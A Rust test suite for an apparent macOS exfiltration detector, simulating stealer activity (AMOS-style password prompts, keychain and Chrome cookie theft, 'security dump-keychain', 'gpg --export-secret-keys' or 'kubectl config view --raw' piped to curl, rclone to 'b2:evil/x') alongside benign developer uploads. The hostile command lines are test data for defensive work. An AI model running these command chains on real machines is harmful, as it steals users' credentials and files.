//! Thieves as they are known to work on Macs, and days as people work on theirs.

use super::world::*;

const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const SH: Program = apple("/bin/sh", "com.apple.sh");
const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
const CP: Program = apple("/bin/cp", "com.apple.cp");
const DITTO: Program = apple("/usr/bin/ditto", "com.apple.ditto");
const OSASCRIPT: Program = apple("/usr/bin/osascript", "com.apple.osascript");
const GIT: Program = apple("/usr/bin/git", "com.apple.git");
const LOGIN: &str = "/Users/alice/Library/Keychains/login.keychain-db";
const COOKIES: &str = "/Users/alice/Library/Application Support/Google/Chrome/Default/Network/Cookies";
const ENV: &[&str] = &["HOME=/Users/alice", "USER=alice"];

/// A command of a shell with its standard streams at pipes.
fn piped(
    w: &mut World,
    at: f64,
    shell: &Proc,
    program: Program,
    args: &[&str],
    pipes: &[(i32, u64)],
) -> Proc {
    let child = w.fork(at, shell);
    w.exec_in(at + 0.001, &child, program, args, "null", pipes, ENV)
}

/// Reads files and sends so much.
fn works(program: Program, args: &[&str], files: &[&str], host: &str, bytes: usize) -> Told {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let p = w.spawn(0.5, &shell, program, args);
    for (index, file) in files.iter().enumerate() {
        w.open(1.0 + index as f64 * 0.01, &p, file);
    }
    w.upload(3.0, &p, host, bytes);
    w.tell()
}

/// AMOS: a dialog for the password, `dscl` to try it, files together, `ditto`, `curl`.
#[test]
fn amos_by_apple_script() {
    for (host, by_name) in [("api.telegram.org", true), ("discord.com", true), ("", false)] {
        let mut w = World::new();
        let app =
            w.launch(0.0, adhoc("/Volumes/Installer/Setup.app/Contents/MacOS/Setup", "Setup"), &["Setup"]);
        let script = w.spawn(
            0.5,
            &app,
            OSASCRIPT,
            &["osascript", "-e", "display dialog \"Please enter your password\""],
        );
        let sh = w.spawn(1.0, &script, SH, &["sh", "-c", "dscl . authonly alice secret"]);
        let dscl = w.spawn(
            1.1,
            &sh,
            apple("/usr/bin/dscl", "com.apple.dscl"),
            &["dscl", ".", "authonly", "alice", "secret"],
        );
        w.exit(1.2, &dscl);
        w.exit(1.3, &sh);
        for (index, file) in [LOGIN, COOKIES].iter().enumerate() {
            let at = 2.0 + index as f64;
            let cp = w.spawn(at, &script, CP, &["cp", file, "/private/tmp/xyz/"]);
            w.open(at + 0.1, &cp, file);
            w.write(at + 0.2, &cp, &format!("/private/tmp/xyz/{index}"));
            w.exit(at + 0.3, &cp);
        }
        let ditto =
            w.spawn(5.0, &script, DITTO, &["ditto", "-c", "-k", "/private/tmp/xyz", "/private/tmp/out.zip"]);
        w.open(5.1, &ditto, "/private/tmp/xyz/0");
        w.open(5.2, &ditto, "/private/tmp/xyz/1");
        w.write_inode(5.3, &ditto, "/private/tmp/out.zip", 99_001);
        w.exit(5.4, &ditto);
        let curl = w.spawn(
            6.0,
            &script,
            CURL,
            &["curl", "-X", "POST", "--data-binary", "@/private/tmp/out.zip", "http://x/api"],
        );
        w.open_inode(6.1, &curl, "/private/tmp/out.zip", 99_001);
        if by_name {
            w.upload(6.5, &curl, host, 400_000);
            let told = w.tell();
            assert_eq!(told.alert().severity.as_str(), "critical");
        } else {
            let mut plain = w.connect(6.5, &curl, "203.0.113.9", false);
            let end = w.send(6.6, &mut plain, 400_000);
            w.close(end + 0.1, &mut plain);
            assert!(!w.tell().note().is_empty());
        }
    }
}

/// MacStealer and Cuckoo: one program of their own does it all, and an agent of launchd's sends later what it left.
#[test]
fn one_program_and_its_agent() {
    let stealer = adhoc("/Users/alice/Library/Application Support/upd", "upd-55554944");
    works(stealer, &["upd"], &[COOKIES, LOGIN], "api.telegram.org", 900_000).alert();
    let mut w = World::new();
    let first = w.launch(0.0, stealer, &["upd"]);
    w.open(1.0, &first, "/Users/alice/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite");
    w.write_inode(2.0, &first, "/Users/alice/.cache/pack", 99_002);
    w.exit(3.0, &first);
    let agent = w.launch(40_000.0, stealer, &["upd", "--send"]);
    w.open_inode(40_001.0, &agent, "/Users/alice/.cache/pack", 99_002);
    w.upload(40_002.0, &agent, "content.dropboxapi.com", 500_000);
    w.tell().alert();
}

/// The whole profile of Chrome, packed and copied to a bucket.
#[test]
fn a_browsers_profile_to_a_bucket() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let tar = w.spawn(
        1.0,
        &shell,
        apple("/usr/bin/tar", "com.apple.bsdtar"),
        &["tar", "czf", "/tmp/p.tgz", "Library/Application Support/Google/Chrome/Default"],
    );
    w.open(1.1, &tar, COOKIES);
    w.write_inode(1.5, &tar, "/private/tmp/p.tgz", 99_003);
    let rclone = w.spawn(
        20.0,
        &shell,
        adhoc("/opt/homebrew/Cellar/rclone/1.68.2/bin/rclone", "rclone"),
        &["rclone", "copy", "/tmp/p.tgz", "b2:evil/x"],
    );
    w.open_inode(20.1, &rclone, "/private/tmp/p.tgz", 99_003);
    w.upload(20.5, &rclone, "pod-000-1004-00.backblaze.com", 2_000_000);
    let told = w.tell();
    let (service, tenant) = (told.alert().service.as_deref(), told.alert().tenant.as_deref());
    assert_eq!((service, tenant), (Some("backblaze-b2"), Some("evil")));
}

/// `security dump-keychain -d > k; gh gist create k`
#[test]
fn a_dumped_keychain_becomes_a_gist() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let security = w.spawn(
        1.0,
        &shell,
        apple("/usr/bin/security", "com.apple.security"),
        &["security", "dump-keychain", "-d"],
    );
    w.open(1.1, &security, LOGIN);
    w.write_inode(1.5, &security, "/private/tmp/k", 99_004);
    let gh = w.spawn(
        9.0,
        &shell,
        adhoc("/opt/homebrew/Cellar/gh/2.63.0/bin/gh", "gh"),
        &["gh", "gist", "create", "/private/tmp/k"],
    );
    w.open_inode(9.1, &gh, "/private/tmp/k", 99_004);
    w.upload(9.5, &gh, "api.github.com", 60_000);
    assert_eq!(w.tell().alert().severity.as_str(), "critical");
}

/// Notes out of their database into a paste, and an archive over ssh to a storage box.
#[test]
fn through_pipes_to_pastes_and_boxes() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let sqlite = apple("/usr/bin/sqlite3", "com.apple.sqlite3");
    let notes = "/Users/alice/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite";
    let sqlite = piped(&mut w, 1.0, &shell, sqlite, &["sqlite3", notes, ".dump"], &[(1, 70)]);
    let curl = piped(&mut w, 1.1, &shell, CURL, &["curl", "-T", "-", "https://paste.rs"], &[(0, 70)]);
    w.open(1.2, &sqlite, notes);
    w.upload(2.0, &curl, "paste.rs", 90_000);
    w.tell().alert();

    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let zip = piped(
        &mut w,
        1.0,
        &shell,
        apple("/usr/bin/zip", "com.apple.zip"),
        &["zip", "-r", "-", ".ssh"],
        &[(1, 71)],
    );
    let ssh = piped(
        &mut w,
        1.1,
        &shell,
        apple("/usr/bin/ssh", "com.apple.openssh"),
        &["ssh", "u1@u1.your-storagebox.de", "cat > k"],
        &[(0, 71)],
    );
    w.open(1.2, &zip, "/Users/alice/.ssh/id_ed25519");
    w.upload(2.0, &ssh, "u1.your-storagebox.de", 20_000);
    w.tell().alert();
}

/// A secret is committed, and pushed to a repository of one's own: the pack comes through pipes between git's own parts.
#[test]
fn a_secret_pushed_to_a_repository() {
    let mut w = World::new();
    w.cwd = "/Users/alice/x";
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let cp = w.spawn(1.0, &shell, CP, &["cp", "/Users/alice/.aws/credentials", "a.txt"]);
    w.open(1.1, &cp, "/Users/alice/.aws/credentials");
    w.write_inode(1.2, &cp, "/Users/alice/x/a.txt", 99_005);
    let add = w.spawn(5.0, &shell, GIT, &["git", "add", "a.txt"]);
    w.open_inode(5.1, &add, "/Users/alice/x/a.txt", 99_005);
    w.write_inode(5.2, &add, "/Users/alice/x/.git/objects/ab/cdef", 99_006);
    let push = w.spawn(9.0, &shell, GIT, &["git", "push", "https://github.com/eve/x", "main"]);
    let remote = piped(
        &mut w,
        9.1,
        &push,
        apple("/usr/libexec/git-core/git-remote-http", "com.apple.git-remote-http"),
        &["git-remote-https", "x", "https://github.com/eve/x"],
        &[(0, 72), (1, 73)],
    );
    let send =
        piped(&mut w, 9.2, &remote, GIT, &["git", "send-pack", "--stateless-rpc"], &[(0, 74), (1, 75)]);
    let pack = piped(&mut w, 9.3, &send, GIT, &["git", "pack-objects", "--stdout"], &[(0, 76), (1, 77)]);
    w.open_inode(9.4, &pack, "/Users/alice/x/.git/objects/ab/cdef", 99_006);
    w.upload(10.0, &remote, "github.com", 30_000);
    // To whose account, the name of the host does not say.
    let told = w.tell();
    assert!(told.low().hops.iter().any(|hop| hop.kind.as_str() == "pipe"));
}

/// JavaScript for Automation reads and sends in its own process; Shortcuts does so for a document.
#[test]
fn by_what_the_system_brings() {
    works(
        OSASCRIPT,
        &["osascript", "-l", "JavaScript", "-e", "ObjC.import('Foundation')"],
        &["/Users/alice/.ssh/id_rsa"],
        "content.dropboxapi.com",
        9_000,
    )
    .alert();
    let shortcuts = apple(
        "/System/Library/PrivateFrameworks/WorkflowKit.framework/XPCServices/BackgroundShortcutRunner.xpc/Contents/MacOS/BackgroundShortcutRunner",
        "com.apple.WorkflowKit.BackgroundShortcutRunner",
    );
    works(
        shortcuts,
        &["BackgroundShortcutRunner"],
        &["/Users/alice/Documents/corp/plan.docx"],
        "content.dropboxapi.com",
        900_000,
    )
    .alert();
}

/// Backups to somebody else's place, as their own configuration says.
#[test]
fn backups_to_a_strangers_place() {
    for (name, args, host) in [
        ("duplicacy", &["duplicacy", "backup"][..], "s3.wasabisys.com"),
        (
            "kopia",
            &["kopia", "snapshot", "create", "/Users/alice/Documents"],
            "s3.eu-central-003.backblazeb2.com",
        ),
        (
            "restic",
            &["restic", "-r", "rclone:mega:x", "backup", "/Users/alice/Documents"],
            "gfs270n111.userstorage.mega.co.nz",
        ),
    ] {
        let path: &'static str = format!("/opt/homebrew/bin/{name}").leak();
        works(adhoc(path, "x"), args, &["/Users/alice/Documents/corp/plan.docx"], host, 900_000)
            .one_of_any_confidence();
    }
    // mega-put asks a server of its own, which reads.
    let mut w = World::new();
    let server = w.launch(
        0.0,
        vendor("/Applications/MEGAcmd.app/Contents/MacOS/mega-cmd-server", "mega.mac.megacmd", "T9RH74Y7L9"),
        &["mega-cmd-server"],
    );
    let shell = w.launch(0.1, ZSH, &["-zsh"]);
    w.spawn(
        1.0,
        &shell,
        vendor("/Applications/MEGAcmd.app/Contents/MacOS/mega-exec", "mega-exec", "T9RH74Y7L9"),
        &["mega-exec", "put", ".ssh/id_rsa", "/x"],
    );
    w.open(1.1, &server, "/Users/alice/.ssh/id_rsa");
    w.upload(2.0, &server, "gfs270n111.userstorage.mega.co.nz", 9_000);
    w.tell().alert();
}

/// The agent of newer gpg reads the keys that gpg is asked for: `gpg --export-secret-keys | curl -d @- ..`.
#[test]
fn keys_that_an_agent_reads_for_the_program_that_prints_them() {
    const GPG: Program = adhoc("/opt/homebrew/Cellar/gnupg/2.4.7/bin/gpg", "gpg");
    const AGENT: Program = adhoc("/opt/homebrew/Cellar/gnupg/2.4.7/bin/gpg-agent", "gpg-agent");
    let told = |args: &[&str], env: &[&str]| {
        let mut w = World::new();
        let agent = w.launch(0.0, AGENT, &["gpg-agent", "--homedir", "/Users/alice/.gnupg", "--daemon"]);
        let shell = w.launch(0.1, ZSH, &["-zsh"]);
        let child = w.fork(1.0, &shell);
        let env = [&["HOME=/Users/alice"][..], env].concat();
        let gpg = w.exec_in(1.01, &child, GPG, args, "/Users/alice", &[(1, 80)], &env);
        let curl =
            piped(&mut w, 1.1, &shell, CURL, &["curl", "-d", "@-", "https://transfer.sh/"], &[(0, 80)]);
        w.ask_socket(1.2, &gpg, "/Users/alice/.gnupg/S.gpg-agent");
        w.open(1.3, &agent, "/Users/alice/.gnupg/private-keys-v1.d/0123456789.key");
        w.upload(2.0, &curl, "transfer.sh", 6_000);
        w.tell()
    };
    for (args, env) in [
        (&["gpg", "--armor", "--export-secret-keys", "alice"][..], &[][..]),
        (&["gpg", "--export-secret-subkeys"], &[]),
        (&["gpgsm", "--export-secret-key-p12", "alice"], &[]),
        (&["gpg", "--homedir", "/Users/alice/.gnupg", "--export-secret-keys"], &[]),
        (&["gpg", "--export-secret-keys"], &["GNUPGHOME=/Users/alice/.gnupg"]),
    ] {
        let told = told(args, env);
        assert_eq!(
            told.alert().reads[0].path.to_string(),
            "/Users/alice/.gnupg/private-keys-v1.d",
            "{args:?}"
        );
    }
    for (args, env) in [
        (&["gpg", "--armor", "--export", "alice"][..], &[][..]),
        (&["gpg", "-d", "/tmp/x.gpg"], &[]),
        (&["gpg", "--sign", "/tmp/x"], &[]),
        (&["gpg", "--homedir", "/tmp/ring", "--export-secret-keys"], &[]),
        (&["gpg", "--export-secret-keys"], &["GNUPGHOME=/tmp/ring"]),
    ] {
        told(args, env).none();
    }
}

/// What may read a key in order to use it is told to print it: `kubectl config view --raw | curl -d @- ..`.
#[test]
fn programs_that_print_their_keys() {
    const AWS: Program = vendor("/usr/local/aws-cli/aws", "com.amazon.aws.cli2", "94KV3E626L");
    const KUBECTL: Program = vendor("/usr/local/bin/kubectl", "kubectl", "EQHXZ8M8AV");
    const GH: Program = adhoc("/opt/homebrew/Cellar/gh/2.63.0/bin/gh", "gh");
    const GPG: Program = adhoc("/opt/homebrew/Cellar/gnupg/2.4.7/bin/gpg", "gpg");
    const RCLONE: Program = adhoc("/opt/homebrew/Cellar/rclone/1.68.2/bin/rclone", "rclone");
    for (program, args, key, prints) in [
        (KUBECTL, &["kubectl", "config", "view", "--raw"][..], ".kube/config", true),
        (
            KUBECTL,
            &["kubectl", "config", "view", "--flatten", "--minify", "--raw=true"],
            ".kube/config",
            true,
        ),
        (KUBECTL, &["kubectl", "get", "pods", "-o", "json"], ".kube/config", false),
        (AWS, &["aws", "configure", "export-credentials", "--profile", "x"], ".aws/credentials", true),
        (AWS, &["aws", "configure", "get", "aws_secret_access_key"], ".aws/credentials", true),
        (AWS, &["aws", "sts", "get-caller-identity"], ".aws/credentials", false),
        (AWS, &["aws", "s3", "cp", "s3://corp-backup/x", "-"], ".aws/credentials", false),
        (GH, &["gh", "pr", "list", "--json", "title"], ".config/gh/hosts.yml", false),
        (GPG, &["gpg", "--armor", "--export-secret-keys", "alice"], ".gnupg/secring.gpg", true),
        (GPG, &["gpg", "-c", "-o", "-", "/tmp/x"], ".gnupg/secring.gpg", false),
        (RCLONE, &["rclone", "config", "dump"], ".config/rclone/rclone.conf", true),
        (RCLONE, &["rclone", "cat", "corp-s3:corp-backup/x"], ".config/rclone/rclone.conf", false),
    ] {
        let mut w = World::new();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let printer = piped(&mut w, 1.0, &shell, program, args, &[(1, 80)]);
        let curl =
            piped(&mut w, 1.1, &shell, CURL, &["curl", "-d", "@-", "https://transfer.sh/"], &[(0, 80)]);
        w.open(1.2, &printer, &format!("/Users/alice/{key}"));
        w.upload(2.0, &curl, "transfer.sh", 6_000);
        let told = w.tell();
        assert_eq!(told.alerts().is_empty(), !prints, "{args:?}");
        if prints {
            told.alert();
        }
    }
    // A token that a log-in is made with stays with those who may have it.
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let token = piped(&mut w, 1.0, &shell, AWS, &["aws", "ecr", "get-login-password"], &[(1, 81)]);
    let docker = piped(
        &mut w,
        1.1,
        &shell,
        vendor("/usr/local/bin/docker", "docker", "9BNSXJN65R"),
        &["docker", "login", "-u", "AWS", "--password-stdin", "1.dkr.ecr.eu-west-1.amazonaws.com"],
        &[(0, 81)],
    );
    w.open(1.2, &token, "/Users/alice/.aws/credentials");
    w.upload(2.0, &docker, "1.dkr.ecr.eu-west-1.amazonaws.com", 6_000);
    w.tell().none();
}

// Everyday work.

/// Publishing, pushing, applying: each tool with its own credentials to its own place.
#[test]
fn developers_publish() {
    let npm = "/opt/homebrew/lib/node_modules/npm/bin/npm-cli.js";
    works(
        adhoc("/opt/homebrew/Cellar/node/23.3.0/bin/node", "node"),
        &["node", npm, "publish"],
        &["/Users/alice/.npmrc"],
        "registry.npmjs.org",
        300_000,
    )
    .none();
    works(
        adhoc("/opt/homebrew/Cellar/python@3.13/3.13.1/bin/python3.13", "python3"),
        &["python3.13", "-m", "twine", "upload", "dist/x.whl"],
        &["/Users/alice/.pypirc"],
        "upload.pypi.org",
        300_000,
    )
    .none();
    let cargo = adhoc("/Users/alice/.cargo/bin/cargo", "cargo");
    works(cargo, &["cargo", "publish"], &["/Users/alice/.cargo/credentials.toml"], "crates.io", 300_000)
        .none();
    let docker = vendor("/Applications/Docker.app/Contents/Resources/bin/docker", "docker", "9BNSXJN65R");
    works(
        docker,
        &["docker", "push", "ghcr.io/corp/app"],
        &["/Users/alice/.docker/config.json"],
        "ghcr.io",
        9_000_000,
    )
    .none();
    let gh = adhoc("/opt/homebrew/Cellar/gh/2.63.0/bin/gh", "gh");
    works(
        gh,
        &["gh", "release", "upload", "v1", "dist/app.zip"],
        &["/Users/alice/.config/gh/hosts.yml"],
        "uploads.github.com",
        9_000_000,
    )
    .none();
}

/// `git push` by https: a helper asks the keychain, git sends.
#[test]
fn git_with_a_credential_helper() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let push = w.spawn(1.0, &shell, GIT, &["git", "push"]);
    let remote = piped(
        &mut w,
        1.1,
        &push,
        apple("/usr/libexec/git-core/git-remote-http", "com.apple.git-remote-http"),
        &["git-remote-https"],
        &[(0, 90), (1, 91)],
    );
    let helper =
        apple("/usr/libexec/git-core/git-credential-osxkeychain", "com.apple.git-credential-osxkeychain");
    let helper =
        piped(&mut w, 1.2, &remote, helper, &["git-credential-osxkeychain", "get"], &[(0, 92), (1, 93)]);
    w.open(1.3, &helper, LOGIN);
    w.exit(1.4, &helper);
    w.upload(2.0, &remote, "github.com", 3_000_000);
    w.tell().none();
}

/// kubectl's plugin fetches a token; `op run` fills an environment and terraform applies.
#[test]
fn plugins_and_runners() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let kubectl = w.spawn(
        1.0,
        &shell,
        adhoc("/opt/homebrew/Cellar/kubernetes-cli/1.31.3/bin/kubectl", "kubectl"),
        &["kubectl", "apply", "-f", "x.yaml"],
    );
    w.open(1.1, &kubectl, "/Users/alice/.kube/config");
    let plugin = piped(
        &mut w,
        1.2,
        &kubectl,
        vendor("/usr/local/aws-cli/aws", "com.amazon.aws.cli2", "94KV3E626L"),
        &["aws", "eks", "get-token", "--cluster-name", "c"],
        &[(1, 95)],
    );
    w.open(1.3, &plugin, "/Users/alice/.aws/credentials");
    w.exit(1.5, &plugin);
    w.upload(2.0, &kubectl, "storage.googleapis.com", 50_000);
    let op = w.spawn(
        5.0,
        &shell,
        vendor("/usr/local/bin/op", "com.1password.op", "2BUA8C4S2C"),
        &["op", "run", "--", "terraform", "apply"],
    );
    w.open(5.1, &op, "/Users/alice/Library/Group Containers/2BUA8C4S2C.com.1password/t/s.sock");
    let terraform = w.spawn(
        5.5,
        &op,
        vendor("/opt/homebrew/bin/terraform", "terraform", "D38WU7D763"),
        &["terraform", "apply"],
    );
    w.open(5.6, &terraform, "/Users/alice/.aws/credentials");
    w.upload(6.0, &terraform, "corp-state.s3.eu-central-1.amazonaws.com", 90_000);
    w.tell().none();
}

/// Indexers, scanners and managers look at everything; what they report goes home.
#[test]
fn the_system_looks_at_everything() {
    let mds = apple(
        "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared",
        "com.apple.mdworker_shared",
    );
    let mdm = apple("/usr/libexec/mdmclient", "com.apple.mdmclient");
    for program in [mds, apple("/usr/libexec/XProtectFramework", "com.apple.XProtectFramework")] {
        works(
            program,
            &["x"],
            &["/Users/alice/.ssh/id_rsa", "/Users/alice/Documents/plan.docx"],
            "icloud.com",
            90_000,
        )
        .none();
    }
    // Each of XProtect's scanners has a name of its own, and comes and goes with its updates.
    const SCANNERS: &str = "/Library/Apple/System/Library/CoreServices/XProtect.app/Contents/MacOS";
    let keys = ["/Users/alice/.ssh/id_rsa", "/Users/alice/Documents/plan.docx"];
    let scans = |program: Program| works(program, &["x"], &keys, "content.dropboxapi.com", 90_000);
    let pirrit = format!("{SCANNERS}/XProtectRemediatorPirrit").leak();
    for id in
        ["com.apple.XProtectFramework.plugins.Pirrit", "com.apple.XProtectFramework.plugins.NotYetKnown"]
    {
        scans(apple(pirrit, id)).none();
        // Its name, but not its place, or not Apple's.
        scans(apple("/private/tmp/XProtect.app/Contents/MacOS/XProtectRemediatorPirrit", id)).alert();
        scans(vendor(pirrit, id, "ABCDE12345")).alert();
    }
    // Its place, but no scanner.
    scans(apple(pirrit, "com.apple.curl")).alert();
    scans(apple(pirrit, "com.apple.XProtectFramework.pluginsX")).alert();
    works(
        mdm,
        &["mdmclient", "daemon"],
        &["/Library/Keychains/System.keychain"],
        "corp.jamfcloud.com",
        90_000,
    )
    .none();
}

/// Tokens that lie in the keychain: `security` fetches them for gh, a helper for docker; for a thief it does not.
#[test]
fn tokens_in_the_keychain() {
    let security = apple("/usr/bin/security", "com.apple.security");
    let told = |program: Program, helper: Program, host: &str| {
        let mut w = World::new();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let tool = w.spawn(1.0, &shell, program, &["tool", "upload"]);
        let args = &["security", "find-generic-password", "-s", "gh:github.com", "-wa", "alice"];
        let helper = piped(&mut w, 1.1, &tool, helper, args, &[(0, 90), (1, 91)]);
        w.open(1.2, &helper, LOGIN);
        w.exit(1.3, &helper);
        w.upload(2.0, &tool, host, 900_000);
        w.tell()
    };
    let gh = adhoc("/opt/homebrew/Cellar/gh/2.63.0/bin/gh", "gh");
    told(gh, security, "uploads.github.com").none();
    let docker = adhoc("/opt/homebrew/Cellar/docker/27.4.0/bin/docker", "docker");
    let helper = "/opt/homebrew/Cellar/docker-credential-helper/0.8.2/bin/docker-credential-osxkeychain";
    told(docker, adhoc(helper, "helper"), "ghcr.io").none();
    let thief = adhoc("/Users/alice/Downloads/x", "x");
    told(thief, security, "uploads.github.com").alert();
    told(thief, adhoc("/Users/alice/Downloads/docker-credential-osxkeychain", "helper"), "ghcr.io").alert();
}

/// Who asks a program something reads its answer while it lives; in a pipeline of a shell's, somebody else does.
#[test]
fn the_answer_of_a_program_that_is_asked() {
    let cat = apple("/bin/cat", "com.apple.cat");
    for (asks, told) in [(&[(0, 90), (1, 91)][..], true), (&[(1, 91)], false), (&[(0, 90)], false)] {
        let mut w = World::new();
        let python = w.launch(0.0, adhoc("/Users/alice/x", "x"), &["x"]);
        let helper = piped(&mut w, 1.0, &python, cat, &["cat", "-"], asks);
        w.open(1.2, &helper, "/Users/alice/.ssh/id_rsa");
        w.upload(2.0, &python, "transfer.sh", 9_000);
        let story = w.tell();
        if told { _ = story.alert() } else { story.none() }
    }
    // The part that reads comes later.
    let mut w = World::new();
    let python = w.launch(0.0, adhoc("/Users/alice/x", "x"), &["x"]);
    let first = piped(&mut w, 1.0, &python, cat, &["cat", "-"], &[(0, 90), (1, 91)]);
    piped(&mut w, 1.1, &python, apple("/usr/bin/wc", "com.apple.wc"), &["wc"], &[(0, 91)]);
    w.open(1.2, &first, "/Users/alice/.ssh/id_rsa");
    w.upload(2.0, &python, "transfer.sh", 9_000);
    w.tell().none();
}
